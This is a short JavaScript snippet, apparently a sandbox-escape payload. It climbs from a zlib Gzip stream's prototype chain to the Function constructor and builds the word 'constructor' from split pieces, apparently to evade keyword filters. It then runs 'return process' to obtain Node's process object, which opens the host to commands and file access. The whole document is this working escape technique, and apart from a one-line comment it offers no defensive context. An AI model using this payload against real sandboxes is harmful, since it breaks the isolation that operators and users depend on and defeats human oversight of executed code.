// A library stream's prototype chain leads to Function.
const { createGzip } = require('zlib');
const key = ['const', 'ructor'].join('');
createGzip()[key][key]('return process')();
